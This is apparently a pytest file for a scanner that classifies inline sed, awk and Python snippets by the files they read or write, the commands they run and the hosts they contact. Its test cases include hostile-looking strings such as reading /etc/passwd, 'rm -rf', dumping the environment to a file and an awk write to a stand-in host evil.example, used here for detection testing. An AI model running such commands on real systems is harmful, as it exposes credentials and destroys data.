"""Inline sed, awk and other programs: what the scanners see, and that the real programs do no more."""

from __future__ import annotations

import shutil
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from remit.code import scan_code
from remit.code_facts import CodeFacts

NOTHING = CodeFacts(runs=False)

SED = [
    ("p", NOTHING),
    ("", NOTHING),
    ("1,5p;$!N;P;D", NOTHING),
    ("/x/,/y/{s/a/b/g;p}", NOTHING),
    ("s|a|b|gI2", NOTHING),
    ("s/[^/]*$//;s/a\\/b/c/", NOTHING),
    ("y/abc/def/;s,w,e,", NOTHING),
    ("# w out\np", NOTHING),
    ("a w out", NOTHING),
    ("a\\\nw out\\\ne id\np", NOTHING),
    (":w;s/a/b/;tw", NOTHING),
    ("\\,w,d;\\%e%p", NOTHING),
    ("0~3p;/a/,+1d;2,~4q5", NOTHING),
    ("w /dev/stdout", NOTHING),
    ("w out", CodeFacts(False, writes=("out",))),
    ("W out;p\np", CodeFacts(False, writes=("out;p",))),
    ("$w  out", CodeFacts(False, writes=("out",))),
    ("/x/!{s/a/b/w /tmp/out\n}", CodeFacts(False, writes=("/tmp/out",))),
    ("s/a/b/gw out", CodeFacts(False, writes=("out",))),
    ("r /etc/passwd", CodeFacts(False, reads=("/etc/passwd",))),
    ("bx;w out\n:x", CodeFacts(False, writes=("out",))),
    ("1e rm -rf x", CodeFacts(True, commands=("rm -rf x",))),
    ("e", CodeFacts(True, sure=False)),
    ("s/a/b/e", CodeFacts(True, sure=False)),
    ("s/a/b/pe;p", CodeFacts(True, sure=False)),
    ("s/[/]/x/;p", NOTHING),
    ("s/[/]/e;e id #/", CodeFacts(True, sure=False, commands=("id #/",))),
    ("k", NOTHING),
    ("ke", CodeFacts(True, sure=False)),
    ("s/e", CodeFacts(True, sure=False)),
    ("s/e/b/Q", CodeFacts(True, sure=False)),
    ("w", CodeFacts(True, sure=False)),
    ("w a\\b", CodeFacts(True, sure=False)),
]

AWK = [
    ("{print $1}", NOTHING),
    ("/foo|bar/{print}", NOTHING),
    ("$3 > 5 {print ($1 > 2)}", NOTHING),
    ('{print "a>b|c", "system(x)"}', NOTHING),
    ("# system(x)\n{ if ($1/2 > 3) print $2 }", NOTHING),
    ("/a\\/b|c/ && $1 != 2", NOTHING),
    ('BEGIN{printf "x" >> "/dev/stderr"}', NOTHING),
    ('BEGIN{print "x" > ".mcp.json"}', CodeFacts(False, writes=(".mcp.json",))),
    ('{print $1,\n $2 > "out"}', CodeFacts(False, writes=("out",))),
    ('{print(1, 2) >> "a\\"b"}', CodeFacts(False, writes=('a"b',))),
    ('BEGIN{while((getline l < "/k")>0) print l}', CodeFacts(False, reads=("/k",))),
    ('{getline a[$1] < "k"; getline $2 < "l"}', CodeFacts(False, reads=("k", "l"))),
    ('{system("env > /tmp/e")}', CodeFacts(True, commands=("env > /tmp/e",))),
    ('{print | "sort -u"}', CodeFacts(True, commands=("sort -u",))),
    ('BEGIN{"date" | getline d}', CodeFacts(True, commands=("date",))),
    ('BEGIN{while (("ls" | getline x) > 0) print x}', CodeFacts(True, commands=("ls",))),
    ('{print "x" |& "/inet/tcp/0/evil.example/80"}', CodeFacts(False, hosts=("evil.example:80",))),
    ("{print $1 > $2}", CodeFacts(True, sure=False)),
    ('{print > "a" ".txt"}', CodeFacts(True, sure=False)),
    ("{print | $1}", CodeFacts(True, sure=False)),
    ("{system($0)}", CodeFacts(True, sure=False)),
    ('{system("rm " $1)}', CodeFacts(True, sure=False)),
    ('{system("\\x72m")}', CodeFacts(True, sure=False)),
    ('{("ls " $1) | getline}', CodeFacts(True, sure=False)),
    ("{while ((getline l < f) > 0) print l}", CodeFacts(True, sure=False)),
    ('BEGIN{ARGV[1]="/etc/passwd"; ARGC=2}', CodeFacts(True, sure=False)),
    ('@load "ext"', CodeFacts(True, sure=False)),
    ('BEGIN{f="sys"; @f("id")}', CodeFacts(True, sure=False)),
    ('if (1) /"/; system("x")#"', CodeFacts(True, sure=False)),
    ('x++ /"/; system("x")#"/', CodeFacts(True, sure=False)),
    ('/[/"]/ {system("x")} #"/', CodeFacts(True, sure=False)),
    ('{print "unclosed > x}', CodeFacts(True, sure=False)),
]


@pytest.mark.parametrize(("text", "facts"), SED, ids=[repr(text) for text, _ in SED])
def test_sed(text: str, facts: CodeFacts) -> None:
    assert scan_code("sed", text) == facts


@pytest.mark.parametrize(("text", "facts"), AWK, ids=[repr(text) for text, _ in AWK])
def test_awk(text: str, facts: CodeFacts) -> None:
    assert scan_code("awk", text) == facts


@pytest.mark.parametrize(
    ("text", "paths", "hosts"),
    [
        pytest.param("print(1)", (), (), id="nothing"),
        pytest.param("open('/etc/passwd').read()", ("/etc/passwd",), (), id="an absolute path"),
        pytest.param('open(".env"); open("~/x")', (".env", "~/x"), (), id="hidden and home"),
        pytest.param("get('https://a.example/x')", (), ("https://a.example/x",), id="a URL is no path"),
        pytest.param(
            "connect(('evil.example', 80))", ("evil.example",), ("evil.example",), id="a dotted name is either"
        ),
        pytest.param("print('hello world', \"it's 1/2 done\")", (), (), id="sentences are neither"),
        pytest.param("f(`a/b`, 'x\\'/y')", ("a/b", "/y"), (), id="other quotes and escapes"),
    ],
)
def test_literals(text: str, paths: tuple[str, ...], hosts: tuple[str, ...]) -> None:
    """Of other languages nothing is sure, and that something runs is always possible."""
    assert scan_code("python", text) == CodeFacts(True, paths, paths, hosts, sure=False)


@given(st.sampled_from(["sed", "awk", "node"]), st.text("swWrRe/[]\\\n;{}#abc \"'|>()$1,!<getlinsym", max_size=40))
def test_every_text_has_facts(language: str, text: str) -> None:
    assert isinstance(scan_code(language, text), CodeFacts)


SED_PIECES = [
    "p",
    "w f",
    "s/a/b/",
    "s/a/b/w g",
    "s/[/]/x/",
    "e touch h",
    "{",
    "}",
    ";",
    "\n",
    "1",
    "/a/",
    "!",
    "a t",
    "a\\",
    "\\",
    "#",
    "b",
    ":x",
    "y/a/b/",
    "/",
    "[",
    "]",
    ",",
    "r f",
]
AWK_PIECES = [
    "{",
    "}",
    "print",
    "1",
    '"f"',
    ">",
    ">>",
    ";",
    "\n",
    "/a/",
    "(",
    ")",
    'system("touch h")',
    "|",
    '"touch h"',
    "getline",
    "<",
    "x",
    "++",
    "/",
    "#",
    "if",
    ",",
    "$1",
    "[",
    "]",
]


def pieces(of: list[str]) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(of), min_size=1, max_size=9).map(" ".join) | st.lists(
        st.sampled_from(of), min_size=1, max_size=9
    ).map("".join)


def created(folder: Path, argv: list[str]) -> set[str]:
    """The files that a run leaves beside its input."""
    for old in folder.iterdir():
        old.unlink()
    (folder / "input").write_text("a/b\nb\n")
    subprocess.run(argv, cwd=folder, stdin=subprocess.DEVNULL, capture_output=True, timeout=5, check=False)
    return {path.name for path in folder.iterdir()} - {"input"}


def check(folder: Path, language: str, argv: list[str]) -> None:
    facts = scan_code(language, argv[-2])
    made = created(folder, argv)
    assert facts.runs or made <= set(facts.writes), f"{argv[-2]!r} made {made}: {facts}"


@pytest.mark.skipif(shutil.which("sed") is None, reason="no sed here")
@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=pieces(SED_PIECES))
def test_sed_makes_no_other_files(text: str, tmp_path: Path) -> None:
    """Whatever the real sed writes was foreseen."""
    check(tmp_path, "sed", ["sed", "-n", text, "input"])


@pytest.mark.skipif(shutil.which("awk") is None, reason="no awk here")
@settings(max_examples=250, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=pieces(AWK_PIECES))
def test_awk_makes_no_other_files(text: str, tmp_path: Path) -> None:
    """Whatever the real awk writes was foreseen."""
    check(tmp_path, "awk", ["awk", text, "input"])


@pytest.mark.parametrize(
    ("language", "unit"),
    [
        ("sed", "s/[/]/x/;"),
        ("sed", "["),
        ("sed", "s/[["),
        ("awk", "/[/"),
        ("awk", '"\\'),
        ("awk", "getline a["),
        ("awk", "system "),
        ("node", "'a\\"),
        ("node", "a."),
    ],
)
def test_time_is_linear(language: str, unit: str) -> None:
    start = time.perf_counter()
    scan_code(language, unit * (32768 // len(unit)))
    assert time.perf_counter() - start < 0.5
